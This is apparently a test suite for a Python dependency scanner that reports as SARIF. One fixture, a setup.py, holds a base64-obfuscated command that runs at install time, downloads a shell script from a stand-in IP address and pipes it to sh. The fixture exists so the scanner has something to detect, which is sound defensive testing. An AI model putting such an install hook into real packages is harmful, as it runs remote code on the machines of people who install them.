// SARIF 2.1.0 output, validated against the OASIS SARIF 2.1.0 schema (errata 01, vendored in
// __tests__/fixtures), from real scans of real projects against a local index.

import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import ajvDraft04 from 'ajv-draft-04';
import ajvFormats from 'ajv-formats';

import { startIndexServer } from './helpers/index-server.js';
import { makeSdist, makeWheel } from './helpers/archives.js';
import { makeProject, runCli } from './helpers/project.js';
import { sarifReport, SDIST_RULE, UNRESOLVED_RULE } from '../src/report/sarif.js';
import { RULES } from '../src/analysis/index.js';
import type { ScanResult } from '../src/scan.js';
import type { Verdict } from '../src/types.js';

type Server = Awaited<ReturnType<typeof startIndexServer>>;

const schema = JSON.parse(readFileSync(join(import.meta.dirname, 'fixtures', 'sarif-schema-2.1.0.json'), 'utf8'));
// Both are CommonJS packages that also set `exports.default`, which is what the types describe.
const ajv = new ajvDraft04.default({ allErrors: true, strict: false });
ajvFormats.default(ajv);
const validate = ajv.compile(schema);

function expectValid(log: unknown): void {
  const ok = validate(log);
  if (!ok) throw new Error(`not valid SARIF 2.1.0:\n${ajv.errorsText(validate.errors, { separator: '\n' })}`);
}

const EVIL = `
import os, subprocess, base64
from setuptools import setup
cmd = base64.b64decode("Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjcvYS5zaCB8IHNo").decode()
subprocess.Popen(cmd, shell=True)
setup(name="evil", version="1.0")
`;

interface SarifResult {
  ruleId: string;
  ruleIndex: number;
  level: string;
  message: { text: string };
  locations: Array<{ physicalLocation: { artifactLocation: { uri: string; uriBaseId: string }; region: { startLine: number } } }>;
  relatedLocations?: unknown[];
  partialFingerprints: Record<string, string>;
  suppressions?: Array<{ kind: string; status: string; justification: string }>;
  baselineState?: string;
  properties: { package: string; status: string; gating: boolean };
}

describe('the SARIF schema check', () => {
  it('accepts a minimal log and rejects logs that break the schema', () => {
    expect(validate({ version: '2.1.0', runs: [{ tool: { driver: { name: 'x' } }, results: [] }] })).toBe(true);
    // a result needs a message
    expect(validate({ version: '2.1.0', runs: [{ tool: { driver: { name: 'x' } }, results: [{ ruleId: 'r' }] }] })).toBe(false);
    // no other SARIF version
    expect(validate({ version: '2.0.0', runs: [] })).toBe(false);
    // suppression status is one of three words
    expect(
      validate({
        version: '2.1.0',
        runs: [{ tool: { driver: { name: 'x' } }, results: [{ message: { text: 'm' }, suppressions: [{ kind: 'external', status: 'ignored' }] }] }],
      }),
    ).toBe(false);
  });
});

describe('sdist-guard scan --format sarif', () => {
  let server: Server;
  beforeAll(async () => {
    server = await startIndexServer({
      projects: {
        good: [makeWheel('good', '1.0')],
        built: [makeSdist('built', '2.0'), makeSdist('built', '2.1')],
        evil: [makeSdist('evil', '1.0', { 'setup.py': EVIL })],
      },
    });
  });
  afterAll(async () => {
    await server.close();
  });

  async function sarifOf(files: Record<string, string>, args: string[] = []): Promise<{ log: any; code: number }> {
    const project = makeProject(files);
    try {
      const run = await runCli(['scan', '.', '--index-url', server.indexUrl, '--format', 'sarif', ...args], { cwd: project.dir });
      return { log: JSON.parse(run.stdout), code: run.code };
    } finally {
      project.cleanup();
    }
  }

  it('writes valid SARIF with one rule per analysis rule and per status, results on manifest lines', async () => {
    const { log, code } = await sarifOf({
      'requirements.txt': 'good==1.0\nbuilt\nevil==1.0\nmissing-pkg\n',
      'requirements-dev.txt': 'evil==1.0\n',
    });
    expect(code).toBe(1);
    expectValid(log);
    expect(log.version).toBe('2.1.0');
    const run = log.runs[0];
    const ruleIds: string[] = run.tool.driver.rules.map((r: { id: string }) => r.id);
    expect(ruleIds.slice(0, 2)).toEqual([SDIST_RULE, UNRESOLVED_RULE]);
    for (const r of RULES) expect(ruleIds).toContain(r.id);
    expect(new Set(ruleIds).size).toBe(ruleIds.length);
    for (const rule of run.tool.driver.rules) expect(rule.properties['security-severity']).toMatch(/^\d+\.\d$/);

    const results = run.results as SarifResult[];
    for (const r of results) expect(run.tool.driver.rules[r.ruleIndex].id).toBe(r.ruleId);
    // no result for the wheel
    expect(results.some((r) => r.properties.package === 'good')).toBe(false);

    const sdist = results.find((r) => r.ruleId === SDIST_RULE)!;
    expect(sdist.properties.package).toBe('built');
    expect(sdist.level).toBe('warning');
    expect(sdist.locations[0].physicalLocation).toEqual({ artifactLocation: { uri: 'requirements.txt', uriBaseId: '%SRCROOT%' }, region: { startLine: 2 } });

    const unresolved = results.find((r) => r.ruleId === UNRESOLVED_RULE)!;
    expect(unresolved).toMatchObject({ level: 'error', properties: { package: 'missing-pkg', status: 'unresolved', gating: true } });
    expect(unresolved.locations[0].physicalLocation.region.startLine).toBe(4);

    const findings = results.filter((r) => r.properties.package === 'evil');
    expect(findings.length).toBeGreaterThan(0);
    for (const f of findings) {
      expect(RULES.map((r) => r.id)).toContain(f.ruleId);
      // where in the sdist, inside the message; where in the repository, as the location
      expect(f.message.text).toMatch(/^evil 1\.0: .+ \(setup\.py:\d+ in evil-1\.0\.tar\.gz, (critical|high|medium|low|info)\)/);
      expect(f.locations[0].physicalLocation.artifactLocation.uri).toBe('requirements-dev.txt');
      expect(f.relatedLocations).toHaveLength(1);
    }
    expect(findings.some((f) => f.level === 'error')).toBe(true);

    const prints = results.map((r) => r.partialFingerprints['sdistGuard/v1']);
    expect(prints.every((p) => /^[0-9a-f]{64}$/.test(p))).toBe(true);
    expect(new Set(prints).size).toBe(prints.length);
  });

  it('keeps fingerprints when the declaring lines move, and changes them with the version', async () => {
    const first = await sarifOf({ 'requirements.txt': 'built==2.0\nmissing-pkg\n' });
    const moved = await sarifOf({ 'requirements.txt': '# moved down\n\nmissing-pkg\nbuilt==2.0\n' });
    const bumped = await sarifOf({ 'requirements.txt': 'built==2.1\nmissing-pkg==2.0\n' });
    const prints = (log: any) => Object.fromEntries((log.runs[0].results as SarifResult[]).map((r) => [r.properties.package, r.partialFingerprints['sdistGuard/v1']]));
    expect(prints(moved.log)).toEqual(prints(first.log));
    expect((moved.log.runs[0].results as SarifResult[]).find((r) => r.properties.package === 'built')!.locations[0].physicalLocation.region.startLine).toBe(4);
    expect(prints(bumped.log).built).not.toBe(prints(first.log).built);
    // same name, same (absent) version: the unresolved result for missing-pkg==2.0 stays the same alert
    expect(prints(bumped.log)['missing-pkg']).toBe(prints(first.log)['missing-pkg']);
  });

  it('marks allowed dependencies as suppressed with the reason, and still validates', async () => {
    const { log, code } = await sarifOf({
      'requirements.txt': 'evil==1.0\n',
      'sdist-guard.toml': '[[allow]]\npackage = "evil==1.0"\nreason = "vendored fork, reviewed in SEC-42"\n',
    });
    expect(code).toBe(0);
    expectValid(log);
    const results = log.runs[0].results as SarifResult[];
    expect(results.length).toBeGreaterThan(0);
    for (const r of results) {
      expect(r.suppressions).toEqual([{ kind: 'external', status: 'accepted', justification: 'vendored fork, reviewed in SEC-42 (sdist-guard.toml:1)' }]);
      expect(r.properties.gating).toBe(false);
      expect(r.level).toBe('warning');
    }
  });
});

describe('sarifReport', () => {
  const verdict = (over: Partial<Verdict>): Verdict => ({
    name: 'pkg',
    version: '1.0',
    status: 'sdist',
    reason: 'pkg 1.0 publishes no wheel',
    sources: [{ path: 'dir with space/requirements.txt', line: 3, requirement: 'pkg==1.0' }],
    targets: [{ python: '3.12', platform: 'manylinux_2_39_x86_64', version: '1.0', file: 'pkg-1.0.tar.gz', kind: 'sdist', reason: 'no wheel' }],
    findings: [],
    limits: [],
    ...over,
  });
  const result = (verdicts: Verdict[], over: Partial<ScanResult> = {}): ScanResult => ({
    root: '/work/repo',
    targets: [],
    manifests: ['dir with space/requirements.txt'],
    verdicts,
    diagnostics: [{ severity: 'error', path: 'pyproject.toml', line: 4, message: 'cannot parse: bad "quote"' }],
    stats: { requests: 0, bytes: 0, retries: 0, sdistsAnalyzed: 0, durationMs: 0 },
    secrets: ['hunter2-token'],
    scope: { requested: 'changed', applied: 'changed', base: 'base commit 1234567 (git)' },
    ...over,
  });

  it('records the baseline state on a pull request, percent-encodes paths, reports manifest problems and masks secrets', () => {
    const text = sarifReport(
      result([verdict({ name: 'new-one' }), verdict({ name: 'old-one', preexisting: true, reason: 'fetched from https://u:hunter2-token@idx/simple' })]),
      ['sdist'],
    );
    const log = JSON.parse(text);
    expectValid(log);
    expect(text).not.toContain('hunter2-token');
    const byName = Object.fromEntries((log.runs[0].results as SarifResult[]).map((r) => [r.properties.package, r]));
    expect(byName['new-one']).toMatchObject({ baselineState: 'new', level: 'error' });
    expect(byName['old-one']).toMatchObject({ baselineState: 'unchanged', level: 'warning' });
    expect(byName['new-one'].locations[0].physicalLocation.artifactLocation.uri).toBe('dir%20with%20space/requirements.txt');
    expect(log.runs[0].invocations[0].toolExecutionNotifications[0]).toMatchObject({ level: 'error', message: { text: 'cannot parse: bad "quote"' } });
    expect(log.runs[0].originalUriBaseIds['%SRCROOT%'].uri).toBe('file:///work/repo/');
  });

  it('leaves the baseline state out when every dependency gates', () => {
    const log = JSON.parse(sarifReport(result([verdict({})], { scope: { requested: 'all', applied: 'all' } }), ['sdist']));
    expectValid(log);
    expect(log.runs[0].results[0].baselineState).toBeUndefined();
  });
});
